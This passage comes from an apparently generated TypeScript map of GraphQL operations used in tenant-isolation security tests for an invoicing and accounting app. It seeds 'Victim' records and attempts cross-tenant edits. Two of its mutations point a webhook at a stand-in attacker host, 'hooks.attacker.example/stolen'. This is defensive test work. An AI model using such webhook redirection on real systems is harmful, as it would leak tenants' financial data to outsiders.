    "mutation TenantAuthorizeConnection($id: ID!) { authorizeConnection(id: $id, code: \"c\", redirectUri: \"http://localhost/cb\") { __typename ... on Error { code } } }": typeof types.TenantAuthorizeConnectionDocument,
    "mutation TenantCheckConnection($id: ID!) { checkConnection(id: $id) { __typename ... on Error { code } ... on MutationCheckConnectionSuccess { data { ok message } } } }": typeof types.TenantCheckConnectionDocument,
    "mutation TenantRunConnection($id: ID!) { runConnection(id: $id) { __typename ... on Error { code } ... on MutationRunConnectionSuccess { data { id } } } }": typeof types.TenantRunConnectionDocument,
    "mutation TenantCancelConnectorRun($id: ID!) { cancelConnectorRun(id: $id) { __typename ... on Error { code } ... on MutationCancelConnectorRunSuccess { data { id status } } } }": typeof types.TenantCancelConnectorRunDocument,
    "mutation TenantReexportInvoices($id: ID!, $invoiceIds: [ID!]!) { reexportInvoices(connectionId: $id, invoiceIds: $invoiceIds) { __typename ... on Error { code } ... on MutationReexportInvoicesSuccess { data { id } } } }": typeof types.TenantReexportInvoicesDocument,
    "mutation TenantReexportSupplierInvoices($id: ID!, $supplierInvoiceIds: [ID!]!) { reexportSupplierInvoices(connectionId: $id, supplierInvoiceIds: $supplierInvoiceIds) { __typename ... on Error { code } ... on MutationReexportSupplierInvoicesSuccess { data { id } } } }": typeof types.TenantReexportSupplierInvoicesDocument,
    "mutation TenantRetryConnectorFailure($id: ID!) { retryConnectorFailure(id: $id) { __typename ... on Error { code } ... on MutationRetryConnectorFailureSuccess { data { id } } } }": typeof types.TenantRetryConnectorFailureDocument,
    "\n    mutation TenantSendInvoice($invoiceId: ID!, $method: InvoiceDeliveryMethod) {\n      sendInvoice(invoiceId: $invoiceId, method: $method) { __typename ... on Error { code } ... on MutationSendInvoiceSuccess { data { id recipient } } }\n    }\n  ": typeof types.TenantSendInvoiceDocument,
    "\n  mutation TenantInvSeedCustomer {\n    createCustomer(input: { name: \"Victim Invoice Customer\", type: PRIVATE, contacts: [{ name: \"Victim Buyer\", personalIdentityNumber: \"200001012392\", propertyDesignation: \"VICTIM 1:1\" }] }) {\n      __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 1) { edges { node { id } } } } }\n    }\n  }\n": typeof types.TenantInvSeedCustomerDocument,
    "\n  mutation TenantInvSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Invoice Project\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n": typeof types.TenantInvSeedProjectDocument,
    "\n  mutation TenantInvSeedInvoice($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, title: \"Victim invoice title\", taxReductionType: ROT, lines: [{ description: \"Victim line\", quantity: \"1\", unitPrice: \"98765.43\", kind: LABOUR }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } } }\n    }\n  }\n": typeof types.TenantInvSeedInvoiceDocument,
    "\n  mutation TenantInvSeedBuyers($invoiceId: ID!, $contactId: ID!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on MutationSetInvoiceBuyersSuccess { data { id } } }\n  }\n": typeof types.TenantInvSeedBuyersDocument,
    "\n  mutation TenantInvSeedLocked($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, contractorVat: false, lines: [{ description: \"Victim locked line\", quantity: \"1\", unitPrice: \"4242.42\" }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id } }\n    }\n  }\n": typeof types.TenantInvSeedLockedDocument,
    "mutation TenantInvSeedLock($id: ID!) { lockInvoice(id: $id) { __typename } }": typeof types.TenantInvSeedLockDocument,
    "query TenantInvSeedStatuses { invoiceStatuses { id } }": typeof types.TenantInvSeedStatusesDocument,
    "query TenantInvoiceStatuses { invoiceStatuses { id code name } }": typeof types.TenantInvoiceStatusesDocument,
    "query TenantInvoice($id: ID!) { invoice(id: $id) { id title } }": typeof types.TenantInvoiceDocument,
    "query TenantInvoiceByNumber { invoiceByNumber(number: 1) { id title lines { description } } }": typeof types.TenantInvoiceByNumberDocument,
    "query TenantInvoiceByOcr($reference: String!) { invoiceByOcr(reference: $reference) { id title ocrReference } }": typeof types.TenantInvoiceByOcrDocument,
    "query TenantInvoices { invoices(first: 200) { totalCount edges { node { id title total lines { description } buyers { name } } } } }": typeof types.TenantInvoicesDocument,
    "mutation TenantCreateInvoice($projectId: ID!) { createInvoice(input: { projectId: $projectId }) { __typename ... on Error { code } ... on MutationCreateInvoiceSuccess { data { id } } } }": typeof types.TenantCreateInvoiceDocument,
    "mutation TenantUpdateInvoice($id: ID!) { updateInvoice(input: { id: $id, title: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateInvoiceSuccess { data { id title } } } }": typeof types.TenantUpdateInvoiceDocument,
    "mutation TenantAddInvoiceLine($invoiceId: ID!) { addInvoiceLine(invoiceId: $invoiceId, input: { description: \"x\", quantity: \"1\", unitPrice: \"1\" }) { __typename ... on Error { code } } }": typeof types.TenantAddInvoiceLineDocument,
    "mutation TenantUpdateInvoiceLine($id: ID!) { updateInvoiceLine(id: $id, input: { description: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateInvoiceLineSuccess { data { description } } } }": typeof types.TenantUpdateInvoiceLineDocument,
    "mutation TenantRemoveInvoiceLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }": typeof types.TenantRemoveInvoiceLineDocument,
    "mutation TenantWorkTypes($lineId: ID!) { setInvoiceLineWorkTypes(lineId: $lineId, workTypes: []) { __typename ... on Error { code } } }": typeof types.TenantWorkTypesDocument,
    "mutation TenantSetBuyers($invoiceId: ID!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: []) { __typename ... on Error { code } } }": typeof types.TenantSetBuyersDocument,
    "mutation TenantReady($id: ID!) { setInvoiceReadyForInvoice(id: $id, ready: true) { __typename ... on Error { code } } }": typeof types.TenantReadyDocument,
    "mutation TenantLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { code } } }": typeof types.TenantLockDocument,
    "mutation TenantUnlock($id: ID!) { unlockInvoice(id: $id) { __typename ... on Error { code } } }": typeof types.TenantUnlockDocument,
    "mutation TenantCredit($id: ID!) { creditInvoice(id: $id, reason: \"steal\") { __typename ... on Error { code } ... on MutationCreditInvoiceSuccess { data { id lines { description } } } } }": typeof types.TenantCreditDocument,
    "mutation TenantCreateInvoiceStatus { createInvoiceStatus(code: 77, name: \"Attacker\") { __typename ... on Error { code } } }": typeof types.TenantCreateInvoiceStatusDocument,
    "mutation TenantDeleteInvoiceStatus($id: ID!) { deleteInvoiceStatus(id: $id) { __typename ... on Error { code } } }": typeof types.TenantDeleteInvoiceStatusDocument,
    "query TenantMySessions { mySessions { id user { id email } } }": typeof types.TenantMySessionsDocument,
    "\n    mutation TenantLogin($input: LoginInput!) {\n      login(input: $input) { __typename ... on Error { code } ... on MutationLoginSuccess { data { __typename } } }\n    }\n  ": typeof types.TenantLoginDocument,
    "\n    mutation TenantCompleteLogin($challenge: String!, $code: String!) { completeLogin(challenge: $challenge, code: $code) { __typename ... on Error { code } } }\n  ": typeof types.TenantCompleteLoginDocument,
    "mutation TenantRefreshSession($t: String!) { refreshSession(refreshToken: $t) { __typename ... on Error { code } } }": typeof types.TenantRefreshSessionDocument,
    "mutation TenantLogout { logout { __typename ... on Error { code } } }": typeof types.TenantLogoutDocument,
    "mutation TenantLogoutEverywhere { logoutEverywhere { __typename ... on MutationLogoutEverywhereSuccess { data } } }": typeof types.TenantLogoutEverywhereDocument,
    "mutation TenantRevokeSession($id: ID!) { revokeSession(id: $id) { __typename ... on Error { code } } }": typeof types.TenantRevokeSessionDocument,
    "\n    mutation TenantChangePassword($p: String!) { changePassword(newPassword: $p) { __typename ... on Error { code } } }\n  ": typeof types.TenantChangePasswordDocument,
    "mutation TenantRequestReset($email: String!) { requestPasswordReset(email: $email) { __typename } }": typeof types.TenantRequestResetDocument,
    "mutation TenantResetPassword($t: String!) { resetPassword(token: $t, newPassword: \"a fine password\") { __typename ... on Error { code } } }": typeof types.TenantResetPasswordDocument,
    "mutation TenantEnrolTotp { enrolTotp { __typename ... on Error { code } } }": typeof types.TenantEnrolTotpDocument,
    "mutation TenantConfirmTotp { confirmTotp(code: \"000000\") { __typename ... on Error { code } } }": typeof types.TenantConfirmTotpDocument,
    "mutation TenantDisableTotp { disableTotp(code: \"000000\") { __typename ... on Error { code } } }": typeof types.TenantDisableTotpDocument,
    "mutation TenantInviteUser($email: String!) { inviteUser(email: $email) { __typename ... on Error { code } } }": typeof types.TenantInviteUserDocument,
    "\n    mutation TenantAcceptInvite($t: String!) { acceptInvite(token: $t, name: \"X\", password: \"a fine password\") { __typename ... on Error { code } } }\n  ": typeof types.TenantAcceptInviteDocument,
    "query TenantMyNotifications { myNotifications(first: 50) { totalCount edges { node { id customerName customerNumber } } } }": typeof types.TenantMyNotificationsDocument,
    "\n    query TenantNotifications($userId: ID) {\n      notifications(first: 50, userId: $userId) { edges { node { id customerName customerNumber mailTo } } }\n    }\n  ": typeof types.TenantNotificationsDocument,
    "\n    mutation TenantMarkNotificationsRead($ids: [ID!]) {\n      markNotificationsRead(ids: $ids) { __typename ... on Error { code } ... on MutationMarkNotificationsReadSuccess { data } }\n    }\n  ": typeof types.TenantMarkNotificationsReadDocument,
    "\n  mutation TenantPrjSeedCustomer { createCustomer(input: { name: \"Victim Project Customer\" }) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n": typeof types.TenantPrjSeedCustomerDocument,
    "\n  mutation TenantPrjSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Project\", number: \"V-900\", statusCode: 50, description: \"victim-project-secret\" }) {\n      __typename ... on MutationCreateProjectSuccess { data { id } }\n    }\n  }\n": typeof types.TenantPrjSeedProjectDocument,
    "\n  mutation TenantPrjSeedWorkOrder($projectId: ID!) {\n    createWorkOrder(projectId: $projectId, input: { name: \"Victim Work Order\" }) { __typename ... on MutationCreateWorkOrderSuccess { data { id } } }\n  }\n": typeof types.TenantPrjSeedWorkOrderDocument,
    "\n  mutation TenantPrjSeedChangeOrder($projectId: ID!) {\n    createChangeOrder(projectId: $projectId, input: { name: \"Victim ÄTA\", estimatedAmount: \"777.77\" }) { __typename ... on MutationCreateChangeOrderSuccess { data { id } } }\n  }\n": typeof types.TenantPrjSeedChangeOrderDocument,
    "query TenantPrjSeedStatuses { projectStatuses { id code } }": typeof types.TenantPrjSeedStatusesDocument,
    "query TenantProjectStatuses { projectStatuses { id code name } }": typeof types.TenantProjectStatusesDocument,
    "query TenantProject($id: ID!) { project(id: $id) { id name } }": typeof types.TenantProjectDocument,
    "query TenantProjectByNumber { projectByNumber(number: \"V-900\") { id name } }": typeof types.TenantProjectByNumberDocument,
    "query TenantProjects { projects(first: 200, search: \"Victim\") { totalCount edges { node { id name workOrders(first: 5) { edges { node { id name } } } } } } }": typeof types.TenantProjectsDocument,
    "mutation TenantCreateProject($customerId: ID!, $statusCode: Int) { createProject(input: { customerId: $customerId, name: \"Intruder\" statusCode: $statusCode }) { __typename ... on Error { code } ... on MutationCreateProjectSuccess { data { id customer { name } } } } }": typeof types.TenantCreateProjectDocument,
    "mutation TenantUpdateProject($id: ID!) { updateProject(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateProjectSuccess { data { id name } } } }": typeof types.TenantUpdateProjectDocument,
    "mutation TenantCloseProject($id: ID!) { closeProject(id: $id) { __typename ... on Error { code } ... on MutationCloseProjectSuccess { data { id name } } } }": typeof types.TenantCloseProjectDocument,
    "mutation TenantCreateWorkOrder($projectId: ID!) { createWorkOrder(projectId: $projectId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateWorkOrderSuccess { data { id project { name } } } } }": typeof types.TenantCreateWorkOrderDocument,
    "mutation TenantUpdateWorkOrder($id: ID!) { updateWorkOrder(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateWorkOrderSuccess { data { id name } } } }": typeof types.TenantUpdateWorkOrderDocument,
    "mutation TenantCloseWorkOrder($id: ID!) { closeWorkOrder(id: $id) { __typename ... on Error { code } ... on MutationCloseWorkOrderSuccess { data { id name } } } }": typeof types.TenantCloseWorkOrderDocument,
    "mutation TenantCreateChangeOrder($projectId: ID!) { createChangeOrder(projectId: $projectId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateChangeOrderSuccess { data { id project { name } } } } }": typeof types.TenantCreateChangeOrderDocument,
    "mutation TenantUpdateChangeOrder($id: ID!) { updateChangeOrder(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateChangeOrderSuccess { data { id name } } } }": typeof types.TenantUpdateChangeOrderDocument,
    "mutation TenantCloseChangeOrder($id: ID!) { closeChangeOrder(id: $id) { __typename ... on Error { code } ... on MutationCloseChangeOrderSuccess { data { id name } } } }": typeof types.TenantCloseChangeOrderDocument,
    "mutation TenantCreateProjectStatus { createProjectStatus(input: { code: 77, name: \"Attacker status\" }) { __typename ... on Error { code } ... on MutationCreateProjectStatusSuccess { data { id code } } } }": typeof types.TenantCreateProjectStatusDocument,
    "mutation TenantRenameProjectStatus($id: ID!) { renameProjectStatus(id: $id, name: \"Hacked\") { __typename ... on Error { code } ... on MutationRenameProjectStatusSuccess { data { id name } } } }": typeof types.TenantRenameProjectStatusDocument,
    "mutation TenantDeleteProjectStatus($id: ID!) { deleteProjectStatus(id: $id) { __typename ... on Error { code } } }": typeof types.TenantDeleteProjectStatusDocument,
    "\n  mutation TenantRegSeedAccount { createAccount(input: { number: 4711, name: \"Victim Ledger Account\", kind: MATERIAL, defaultVatRate: \"25\" }) { __typename ... on MutationCreateAccountSuccess { data { id } } } }\n": typeof types.TenantRegSeedAccountDocument,
    "\n  mutation TenantRegSeedCostCentre { createCostCentre(input: { code: \"VCC-9\", name: \"Victim Cost Centre\" }) { __typename ... on MutationCreateCostCentreSuccess { data { id } } } }\n": typeof types.TenantRegSeedCostCentreDocument,
    "\n  mutation TenantRegSeedSupplier {\n    createSupplier(input: { number: \"VS-1\", name: \"Victim Supplies AB\", email: \"victim-supplier@victim.se\", bankgiro: \"5050-1055\", iban: \"SE35 5000 0000 0549 1000 0003\" }) {\n      __typename ... on MutationCreateSupplierSuccess { data { id } }\n    }\n  }\n": typeof types.TenantRegSeedSupplierDocument,
    "\n  mutation TenantRegSeedTerms { createPaymentTerm(input: { code: \"VPT\", name: \"Victim terms\", days: 17 }) { __typename ... on MutationCreatePaymentTermSuccess { data { id } } } }\n": typeof types.TenantRegSeedTermsDocument,
    "query TenantAccounts { accounts(first: 200) { totalCount edges { node { id number name } } } }": typeof types.TenantAccountsDocument,
    "query TenantAccountByNumber { accountByNumber(number: 4711) { id name } }": typeof types.TenantAccountByNumberDocument,
    "query TenantCostCentres { costCentres(includeInactive: true) { id code name } }": typeof types.TenantCostCentresDocument,
    "query TenantSuppliers { suppliers(first: 200) { totalCount edges { node { id number name email bankgiro iban } } } }": typeof types.TenantSuppliersDocument,
    "\n    query TenantVouchers($projectId: ID) {\n      vouchers(first: 200, filter: { projectId: $projectId }) {\n        totalCount\n        edges { node { id remoteId description rows { note debit credit account { name } project { id } costCentre { name } } } }\n      }\n    }\n  ": typeof types.TenantVouchersDocument,
    "\n    query TenantCostLedger($id: ID!) {\n      node(id: $id) { id ... on Project { costLedger { byAccount { accountName net } byPart { workOrder { id } changeOrder { id } net } total { net } } } }\n    }\n  ": typeof types.TenantCostLedgerDocument,
    "mutation TenantCreateAccount { createAccount(input: { number: 4711, name: \"Intruder account\" }) { __typename ... on Error { code } ... on MutationCreateAccountSuccess { data { id name } } } }": typeof types.TenantCreateAccountDocument,
    "mutation TenantUpdateAccount($id: ID!) { updateAccount(input: { id: $id, name: \"Hacked\", active: false }) { __typename ... on Error { code } ... on MutationUpdateAccountSuccess { data { id name } } } }": typeof types.TenantUpdateAccountDocument,
    "mutation TenantCreateCostCentre { createCostCentre(input: { code: \"VCC-9\", name: \"Intruder centre\" }) { __typename ... on Error { code } ... on MutationCreateCostCentreSuccess { data { id name } } } }": typeof types.TenantCreateCostCentreDocument,
    "mutation TenantUpdateCostCentre($id: ID!) { updateCostCentre(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCostCentreSuccess { data { id name } } } }": typeof types.TenantUpdateCostCentreDocument,
    "mutation TenantCreateSupplier { createSupplier(input: { number: \"VS-1\", name: \"Intruder supplier\" }) { __typename ... on Error { code } ... on MutationCreateSupplierSuccess { data { id name } } } }": typeof types.TenantCreateSupplierDocument,
    "mutation TenantUpdateSupplier($id: ID!) { updateSupplier(input: { id: $id, name: \"Hacked\", bankgiro: null }) { __typename ... on Error { code } ... on MutationUpdateSupplierSuccess { data { id name } } } }": typeof types.TenantUpdateSupplierDocument,
    "mutation TenantCreatePaymentTerm { createPaymentTerm(input: { code: \"VPT\", name: \"Intruder terms\", days: 5 }) { __typename ... on Error { code } ... on MutationCreatePaymentTermSuccess { data { id name } } } }": typeof types.TenantCreatePaymentTermDocument,
    "mutation TenantUpdatePaymentTerm($id: ID!) { updatePaymentTerm(input: { id: $id, days: 99, active: false }) { __typename ... on Error { code } ... on MutationUpdatePaymentTermSuccess { data { id name } } } }": typeof types.TenantUpdatePaymentTermDocument,
    "mutation TenantDeletePaymentTerm($id: ID!) { deletePaymentTerm(id: $id) { __typename ... on Error { code } } }": typeof types.TenantDeletePaymentTermDocument,
    "\n  mutation TenantRevSeedAccount { createAccount(input: { number: 3011, name: \"Victim revenue account\" }) { __typename } }\n": typeof types.TenantRevSeedAccountDocument,
    "\n  mutation TenantRevSeedRules {\n    setRevenuePostingRules(rules: [{ accountNumber: 3011, description: \"Victim default rule\" }]) { __typename ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { id } } } }\n  }\n": typeof types.TenantRevSeedRulesDocument,
    "\n  mutation TenantRevSeedActivate { updateRevenueAccountingSettings(input: { active: true, dimensions: [{ number: 5, included: true, name: \"Victim dimension\" }] }) { __typename } }\n": typeof types.TenantRevSeedActivateDocument,
    "\n  mutation TenantRevSeedCustomer { createCustomer(input: { name: \"Victim Revenue Customer\", category: INTRA_GROUP }) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n": typeof types.TenantRevSeedCustomerDocument,
    "\n  mutation TenantRevSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Revenue Project\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n": typeof types.TenantRevSeedProjectDocument,
    "\n  mutation TenantRevSeedInvoice($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, lines: [{ description: \"Victim revenue line\", quantity: \"1\", unitPrice: \"31415.92\" }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } revenueLines { id } accountingBasis { id } } }\n    }\n  }\n": typeof types.TenantRevSeedInvoiceDocument,
    "\n  mutation TenantRevSeedBalance($invoiceId: ID!) {\n    addBalancePosting(invoiceId: $invoiceId, input: { amount: \"271.82\", accountNumber: 3011, description: \"Victim balance posting\" }) {\n      __typename ... on MutationAddBalancePostingSuccess { data { id } }\n    }\n  }\n": typeof types.TenantRevSeedBalanceDocument,
    "\n    query TenantRevenueSettings { revenueAccountingSettings { active dimensions { number name } postingRules { id accountNumber description } } }\n  ": typeof types.TenantRevenueSettingsDocument,
    "\n    mutation TenantRevenueUpdateSettings { updateRevenueAccountingSettings(input: { dimensions: [{ number: 6, included: true, name: \"Attacker\" }] }) { __typename ... on Error { code } } }\n  ": typeof types.TenantRevenueUpdateSettingsDocument,
    "\n    mutation TenantRevenueSetRules { setRevenuePostingRules(rules: [{ accountNumber: 3011 }]) { __typename ... on Error { code } ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { id description } } } } }\n  ": typeof types.TenantRevenueSetRulesDocument,
    "\n    mutation TenantRevenueUpdateLine($id: ID!) { updateInvoiceRevenueLine(id: $id, input: { dimension5: \"Hacked\" }) { __typename ... on Error { code } } }\n  ": typeof types.TenantRevenueUpdateLineDocument,
    "\n    mutation TenantRevenueSplit($lineId: ID!) { splitInvoiceLineRevenue(lineId: $lineId, parts: [{ amount: \"31415.92\" }]) { __typename ... on Error { code } } }\n  ": typeof types.TenantRevenueSplitDocument,
    "\n    mutation TenantRevenueReset($invoiceId: ID!) { resetInvoiceRevenueAccounting(invoiceId: $invoiceId) { __typename ... on Error { code } } }\n  ": typeof types.TenantRevenueResetDocument,
    "\n    mutation TenantRevenueAddBalance($invoiceId: ID!) { addBalancePosting(invoiceId: $invoiceId, input: { amount: \"1\", accountNumber: 3011 }) { __typename ... on Error { code } } }\n  ": typeof types.TenantRevenueAddBalanceDocument,
    "\n    mutation TenantRevenueRemoveBalance($id: ID!) { removeBalancePosting(id: $id) { __typename ... on Error { code } } }\n  ": typeof types.TenantRevenueRemoveBalanceDocument,
    "\n    mutation TenantRevenueUpdateBasis($id: ID!) { updateAccountingBasisRow(id: $id, input: { description: \"Hacked\" }) { __typename ... on Error { code } } }\n  ": typeof types.TenantRevenueUpdateBasisDocument,
    "\n    mutation TenantRevenueRebuild($invoiceId: ID!) { rebuildAccountingBasis(invoiceId: $invoiceId) { __typename ... on Error { code } } }\n  ": typeof types.TenantRevenueRebuildDocument,
    "\n  mutation ImpTenantSie($file: File!, $mode: SieImportMode) {\n    importSie(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportSieSuccess {\n        data {\n          committed message\n          vouchers { total created updated unchanged skipped errors }\n          items { kind line key name outcome errors { line code message } notes { line code message } }\n        }\n      }\n      ... on Error { code message }\n    }\n  }\n": typeof types.ImpTenantSieDocument,
    "\n    query TenantSupplierInvoices($supplierId: ID) {\n      supplierInvoices(first: 200, filter: { supplierId: $supplierId }) {\n        totalCount\n        edges { node { id invoiceNumber ocr description net document { url } rows { id accountNumber amount description } approvals { name } } }\n      }\n    }\n  ": typeof types.TenantSupplierInvoicesDocument,
    "query TenantSupplierInvoiceNode($id: ID!) { node(id: $id) { id ... on SupplierInvoice { invoiceNumber } } }": typeof types.TenantSupplierInvoiceNodeDocument,
    "\n    mutation TenantCreateSupplierInvoice($supplierId: ID!) {\n      createSupplierInvoice(input: { supplierId: $supplierId, invoiceNumber: \"VSI-1\", invoiceDate: \"2026-11-01\", net: \"100\" }) {\n        __typename ... on Error { code } ... on MutationCreateSupplierInvoiceSuccess { data { id } }\n      }\n    }\n  ": typeof types.TenantCreateSupplierInvoiceDocument,
    "mutation TenantUpdateSupplierInvoice($id: ID!) { updateSupplierInvoice(input: { id: $id, ocr: \"1\", net: \"1\" }) { __typename ... on Error { code } ... on MutationUpdateSupplierInvoiceSuccess { data { id ocr } } } }": typeof types.TenantUpdateSupplierInvoiceDocument,
    "mutation TenantAddSupplierInvoiceRow($id: ID!) { addSupplierInvoiceRow(input: { supplierInvoiceId: $id, accountNumber: 4010, amount: \"1\" }) { __typename ... on Error { code } ... on MutationAddSupplierInvoiceRowSuccess { data { id } } } }": typeof types.TenantAddSupplierInvoiceRowDocument,
    "mutation TenantUpdateSupplierInvoiceRow($id: ID!) { updateSupplierInvoiceRow(input: { id: $id, amount: \"1\" }) { __typename ... on Error { code } ... on MutationUpdateSupplierInvoiceRowSuccess { data { id } } } }": typeof types.TenantUpdateSupplierInvoiceRowDocument,
    "mutation TenantRemoveSupplierInvoiceRow($id: ID!) { removeSupplierInvoiceRow(id: $id) { __typename ... on Error { code } ... on MutationRemoveSupplierInvoiceRowSuccess { data { id } } } }": typeof types.TenantRemoveSupplierInvoiceRowDocument,
    "mutation TenantApproveSupplierInvoice($id: ID!) { approveSupplierInvoice(id: $id) { __typename ... on Error { code } ... on MutationApproveSupplierInvoiceSuccess { data { id status } } } }": typeof types.TenantApproveSupplierInvoiceDocument,
    "mutation TenantDisputeSupplierInvoice($id: ID!) { disputeSupplierInvoice(id: $id, reason: \"intruder\") { __typename ... on Error { code } ... on MutationDisputeSupplierInvoiceSuccess { data { id } } } }": typeof types.TenantDisputeSupplierInvoiceDocument,
    "mutation TenantUndisputeSupplierInvoice($id: ID!) { undisputeSupplierInvoice(id: $id) { __typename ... on Error { code } ... on MutationUndisputeSupplierInvoiceSuccess { data { id } } } }": typeof types.TenantUndisputeSupplierInvoiceDocument,
    "query TenantWebhookEndpoints { webhookEndpoints { id url description } }": typeof types.TenantWebhookEndpointsDocument,
    "\n    query TenantWebhookDeliveries($endpointId: ID, $eventId: ID) {\n      webhookDeliveries(endpointId: $endpointId, eventId: $eventId, first: 50) { edges { node { id eventId eventType endpoint { url } attempts { responseBody } } } }\n    }\n  ": typeof types.TenantWebhookDeliveriesDocument,
    "\n    mutation TenantCreateWebhookEndpoint {\n      createWebhookEndpoint(input: { url: \"https://hooks.attacker.example/in\" }) { __typename ... on Error { code } ... on MutationCreateWebhookEndpointSuccess { data { endpoint { id url } } } }\n    }\n  ": typeof types.TenantCreateWebhookEndpointDocument,
    "\n    mutation TenantUpdateWebhookEndpoint($id: ID!) {\n      updateWebhookEndpoint(input: { id: $id, url: \"https://hooks.attacker.example/stolen\", active: false }) { __typename ... on Error { code } ... on MutationUpdateWebhookEndpointSuccess { data { id url } } }\n    }\n  ": typeof types.TenantUpdateWebhookEndpointDocument,
    "mutation TenantDeleteWebhookEndpoint($id: ID!) { deleteWebhookEndpoint(id: $id) { __typename ... on Error { code } } }": typeof types.TenantDeleteWebhookEndpointDocument,
    "\n    mutation TenantRotateWebhookEndpointSecret($id: ID!) {\n      rotateWebhookEndpointSecret(id: $id) { __typename ... on Error { code } ... on MutationRotateWebhookEndpointSecretSuccess { data { secret } } }\n    }\n  ": typeof types.TenantRotateWebhookEndpointSecretDocument,
    "\n    mutation TenantSendTestWebhook($endpointId: ID!) {\n      sendTestWebhook(endpointId: $endpointId) { __typename ... on Error { code } ... on MutationSendTestWebhookSuccess { data { id } } }\n    }\n  ": typeof types.TenantSendTestWebhookDocument,
    "\n    mutation TenantReplayWebhookEvent($endpointId: ID!, $eventId: ID!) {\n      replayWebhookEvent(endpointId: $endpointId, eventId: $eventId) { __typename ... on Error { code } ... on MutationReplayWebhookEventSuccess { data { id } } }\n    }\n  ": typeof types.TenantReplayWebhookEventDocument,
    "\n  mutation BombImport($file: File!) {\n    importCustomers(file: $file) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { totalRows } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n": typeof types.BombImportDocument,
    "\n  query BombMe { me { id } }\n": typeof types.BombMeDocument,
    "\n  mutation WhCreate($input: CreateWebhookEndpointInput!) {\n    createWebhookEndpoint(input: $input) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationCreateWebhookEndpointSuccess { data { secret endpoint { id url eventTypes active } } }\n    }\n  }\n": typeof types.WhCreateDocument,
    "\n  mutation WhUpdate($input: UpdateWebhookEndpointInput!) {\n    updateWebhookEndpoint(input: $input) { __typename ... on Error { code message path } ... on MutationUpdateWebhookEndpointSuccess { data { id url active eventTypes } } }\n  }\n": typeof types.WhUpdateDocument,
    "\n  mutation WhRotate($id: ID!) {\n    rotateWebhookEndpointSecret(id: $id) {\n      __typename\n      ... on Error { code message }\n      ... on MutationRotateWebhookEndpointSecretSuccess { data { secret endpoint { id secretRotatedAt previousSecretExpiresAt } } }\n    }\n  }\n": typeof types.WhRotateDocument,
    "\n  mutation WhDelete($id: ID!) { deleteWebhookEndpoint(id: $id) { __typename ... on Error { code } ... on MutationDeleteWebhookEndpointSuccess { data } } }\n": typeof types.WhDeleteDocument,
    "\n  query WhEndpoints {\n    webhookEndpoints { id url description eventTypes active secretRotatedAt previousSecretExpiresAt createdAt updatedAt }\n  }\n": typeof types.WhEndpointsDocument,
    "\n  query WhDeliveries($endpointId: ID, $eventId: ID) {\n    webhookDeliveries(endpointId: $endpointId, eventId: $eventId, first: 50) {\n      edges {\n        node {\n          id eventId eventType kind status attemptCount nextAttemptAt deliveredAt lastError\n          endpoint { id url }\n          attempts { number startedAt durationMs statusCode error responseBody }\n        }\n      }\n    }\n  }\n": typeof types.WhDeliveriesDocument,
    "\n  mutation WhTest($endpointId: ID!) {\n    sendTestWebhook(endpointId: $endpointId) { __typename ... on Error { code message path } ... on MutationSendTestWebhookSuccess { data { id kind eventType status } } }\n  }\n": typeof types.WhTestDocument,
    "\n  mutation WhReplay($endpointId: ID!, $eventId: ID!) {\n    replayWebhookEvent(endpointId: $endpointId, eventId: $eventId) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationReplayWebhookEventSuccess { data { id kind eventId status } }\n    }\n  }\n": typeof types.WhReplayDocument,
    "\n  query HelperRun($id: ID!) {\n    node(id: $id) {\n      ... on ConnectorRun {\n        id status trigger dryRun error notification queuedAt startedAt finishedAt cancelRequestedAt cancelledBy requestedFlows\n        flows { flowId status created updated unchanged skipped failed error planned }\n        failures { id entityType entityId reference message flowId }\n      }\n    }\n  }\n": typeof types.HelperRunDocument,
    "mutation EvLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { message } } }": typeof types.EvLockDocument,
    "\n  mutation EvProject($input: UpdateProjectInput!) { updateProject(input: $input) { __typename ... on Error { message } } }\n": typeof types.EvProjectDocument,
    "\n  mutation EvRun($id: ID!) { runConnection(id: $id) { __typename ... on MutationRunConnectionSuccess { data { id status } } ... on Error { message } } }\n": typeof types.EvRunDocument,
    "\n  mutation EvApprove($id: ID!) { approveSupplierInvoice(id: $id) { __typename ... on Error { message } } }\n": typeof types.EvApproveDocument,
    "\n  mutation PreLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } }\n  }\n": typeof types.PreLockDocument,
};
const documents: Documents = {
